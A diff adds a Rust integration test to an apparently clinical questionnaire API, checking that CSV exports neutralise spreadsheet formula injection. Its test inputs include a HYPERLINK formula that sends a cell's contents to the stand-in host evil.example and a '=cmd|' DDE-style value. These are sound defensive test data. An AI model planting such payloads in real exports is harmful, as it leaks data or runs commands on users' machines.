@@ -239,3 +239,32 @@ async fn the_dictionary_describes_every_column() {
     let text = res.text().await.unwrap();
     assert_eq!(csv_rows(&text).len(), names.len());
 }
+
+#[tokio::test]
+async fn csv_text_cells_cannot_start_a_formula() {
+    let app = TestApp::spawn().await;
+    let token = app.token(&["responses:write", "export", "export:identified"]).await;
+    let prefixes = [
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+        "+1+1",
+        "-2+3",
+        "@SUM(A1)",
+    ];
+    for (i, patient) in prefixes.iter().enumerate() {
+        let body = serde_json::json!({"instrument": "srs", "patient": patient, "clinician": format!("=cmd|{i}"),
+            "administered_at": "2026-03-04T15:20:00Z", "answers": {"1": 9, "2": 9, "3": 9, "4": 9.5}});
+        assert_eq!(app.post_json(&token, "/v1/responses", body).await.status(), 201);
+    }
+    let (_, text) = export(&app, &token, "instrument=srs&format=csv&pseudonymize=false").await;
+    let rows = csv_rows(&text);
+    assert_eq!(rows.len(), prefixes.len());
+    for row in &rows {
+        for column in ["patient", "clinician"] {
+            let cell = &row[column];
+            assert!(cell.starts_with('\''), "{column} cell {cell:?} is neutralised");
+            assert!(prefixes.iter().any(|p| cell[1..] == **p) || cell[1..].starts_with("=cmd|"));
+        }
+        // Numeric columns are never changed.
+        assert_eq!(row["total"], "36.5");
+    }
+}
